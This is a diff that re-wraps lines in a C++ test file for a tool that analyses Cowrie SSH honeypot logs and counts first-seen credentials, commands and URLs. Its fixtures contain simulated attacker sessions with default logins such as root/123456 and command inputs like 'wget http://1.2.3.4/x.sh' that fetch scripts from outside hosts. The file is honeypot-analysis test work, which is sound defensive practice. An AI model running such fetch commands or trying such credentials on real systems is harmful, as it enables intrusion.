@@ -13,28 +13,37 @@ std::string corpus() {
     d += ev("s1", "a1", "1.1.1.1", "cowrie.session.connect", "2026-01-01T10:00:00Z", R"("protocol":"ssh")");
     d += ev("s1", "a1", "1.1.1.1", "cowrie.client.version", "2026-01-01T10:00:01Z", R"("version":"SSH-2.0-Go")");
     d += ev("s1", "a1", "1.1.1.1", "cowrie.client.kex", "2026-01-01T10:00:01Z", R"("hassh":"h1")");
-    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:02Z", R"("username":"root","password":"123456")");
-    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:03Z", R"("username":"root","password":"123456")");
-    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.success", "2026-01-01T10:00:04Z", R"("username":"root","password":"admin")");
-    d += ev("s1", "a1", "1.1.1.1", "cowrie.command.input", "2026-01-01T10:00:05Z", R"("input":"wget http://1.2.3.4/x.sh")");
+    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:02Z",
+            R"("username":"root","password":"123456")");
+    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.failed", "2026-01-01T10:00:03Z",
+            R"("username":"root","password":"123456")");
+    d += ev("s1", "a1", "1.1.1.1", "cowrie.login.success", "2026-01-01T10:00:04Z",
+            R"("username":"root","password":"admin")");
+    d += ev("s1", "a1", "1.1.1.1", "cowrie.command.input", "2026-01-01T10:00:05Z",
+            R"("input":"wget http://1.2.3.4/x.sh")");
     d += ev("s1", "a1", "1.1.1.1", "cowrie.session.file_download", "2026-01-01T10:00:06Z",
             R"("url":"http://1.2.3.4/x.sh","shasum":"aaaa","outfile":"x")");
     d += ev("s1", "a1", "1.1.1.1", "cowrie.session.closed", "2026-01-01T10:00:09Z");
     // 2026-01-02: sensor s2, 2.2.2.2: the same credential and template again
     d += ev("s2", "b1", "2.2.2.2", "cowrie.session.connect", "2026-01-02T08:00:00Z", R"("protocol":"ssh")");
     d += ev("s2", "b1", "2.2.2.2", "cowrie.client.version", "2026-01-02T08:00:01Z", R"("version":"SSH-2.0-Go")");
-    d += ev("s2", "b1", "2.2.2.2", "cowrie.login.success", "2026-01-02T08:00:02Z", R"("username":"root","password":"123456")");
-    d += ev("s2", "b1", "2.2.2.2", "cowrie.command.input", "2026-01-02T08:00:05Z", R"("input":"wget http://5.6.7.8/y.sh")");
+    d += ev("s2", "b1", "2.2.2.2", "cowrie.login.success", "2026-01-02T08:00:02Z",
+            R"("username":"root","password":"123456")");
+    d += ev("s2", "b1", "2.2.2.2", "cowrie.command.input", "2026-01-02T08:00:05Z",
+            R"("input":"wget http://5.6.7.8/y.sh")");
     d += ev("s2", "b1", "2.2.2.2", "cowrie.session.file_upload", "2026-01-02T08:00:06Z",
             R"("filename":"up.bin","shasum":"bbbb")");
     d += ev("s2", "b1", "2.2.2.2", "cowrie.session.closed", "2026-01-02T08:00:09Z");
     // 2026-01-20: sensor s1, 3.3.3.3: new credential, template, client version, failed URL
     d += ev("s1", "c1", "3.3.3.3", "cowrie.session.connect", "2026-01-20T12:00:00Z", R"("protocol":"ssh")");
     d += ev("s1", "c1", "3.3.3.3", "cowrie.client.version", "2026-01-20T12:00:01Z", R"("version":"SSH-2.0-libssh")");
-    d += ev("s1", "c1", "3.3.3.3", "cowrie.login.success", "2026-01-20T12:00:02Z", R"("username":"admin","password":"admin")");
+    d += ev("s1", "c1", "3.3.3.3", "cowrie.login.success", "2026-01-20T12:00:02Z",
+            R"("username":"admin","password":"admin")");
     d += ev("s1", "c1", "3.3.3.3", "cowrie.command.input", "2026-01-20T12:00:03Z", R"("input":"uname -a")");
-    d += ev("s1", "c1", "3.3.3.3", "cowrie.command.input", "2026-01-20T12:00:04Z", R"("input":"wget http://9.9.9.9/z")");
-    d += ev("s1", "c1", "3.3.3.3", "cowrie.session.file_download.failed", "2026-01-20T12:00:05Z", R"("url":"http://9.9.9.9/z")");
+    d +=
+        ev("s1", "c1", "3.3.3.3", "cowrie.command.input", "2026-01-20T12:00:04Z", R"("input":"wget http://9.9.9.9/z")");
+    d += ev("s1", "c1", "3.3.3.3", "cowrie.session.file_download.failed", "2026-01-20T12:00:05Z",
+            R"("url":"http://9.9.9.9/z")");
     d += ev("s1", "c1", "3.3.3.3", "cowrie.session.closed", "2026-01-20T12:00:30Z");
     return d;
 }
@@ -120,9 +129,13 @@ TEST(Novelty, FirstSeenCountsAndWindow) {
     for (const auto& r : recent) EXPECT_EQ(r.is_new, 1);
 
     ASSERT_TRUE(f.novelty);
-    EXPECT_EQ(f.novelty->recent_counts, (cb::NamedCounts{{"credential", 1}, {"key_fingerprint", 0}, {"command_template", 1},
-                                                        {"url", 1}, {"download_hash", 0}, {"client_version", 1},
-                                                        {"hassh", 0}}));
+    EXPECT_EQ(f.novelty->recent_counts, (cb::NamedCounts{{"credential", 1},
+                                                         {"key_fingerprint", 0},
+                                                         {"command_template", 1},
+                                                         {"url", 1},
+                                                         {"download_hash", 0},
+                                                         {"client_version", 1},
+                                                         {"hassh", 0}}));
     EXPECT_EQ(f.novelty->reference_time.value_or(""), "2026-01-20T12:00:30.000000Z");
     EXPECT_TRUE(f.novelty->has_history);
     // The report shows them as one JSON object.
@@ -155,7 +168,8 @@ TEST(Novelty, CredentialTextIsExact) {
             "\"username\":" + js("a\"b") + ",\"password\":" + js("c/x\ty"));
     StringPool pool;
     const auto rows = rows_of(*table(run_one("novelty", ingest(d, pool)), "novelty"));
-    // "a\"b/c" + "x\ty" and "a\"b" + "c/x\ty" would both be a"b/c/x<TAB>y with a separator: the JSON array keeps them apart.
+    // "a\"b/c" + "x\ty" and "a\"b" + "c/x\ty" would both be a"b/c/x<TAB>y with a separator: the JSON array keeps them
+    // apart.
     ASSERT_EQ(rows.size(), 2u);
     EXPECT_NE(find(rows, "credential", R"(["a\"b/c","x\ty"])"), nullptr);
     EXPECT_NE(find(rows, "credential", R"(["a\"b","c/x\ty"])"), nullptr);
@@ -173,7 +187,8 @@ TEST(Novelty, MergeEqualsOnePass) {
         d += ev(sensor, sid, ip, "cowrie.session.connect", day);
         d += ev(sensor, sid, ip, "cowrie.login.failed", day,
                 "\"username\":\"u" + std::to_string(i % 9) + "\",\"password\":\"p" + std::to_string(i % 4) + "\"");
-        d += ev(sensor, sid, ip, "cowrie.command.input", day, "\"input\":\"echo " + std::to_string(i % 6) + " x" + std::to_string(i % 5) + "\"");
+        d += ev(sensor, sid, ip, "cowrie.command.input", day,
+                "\"input\":\"echo " + std::to_string(i % 6) + " x" + std::to_string(i % 5) + "\"");
         d += ev(sensor, sid, ip, "cowrie.client.version", day, "\"version\":\"v" + std::to_string(i % 4) + "\"");
     }
     StringPool pool;
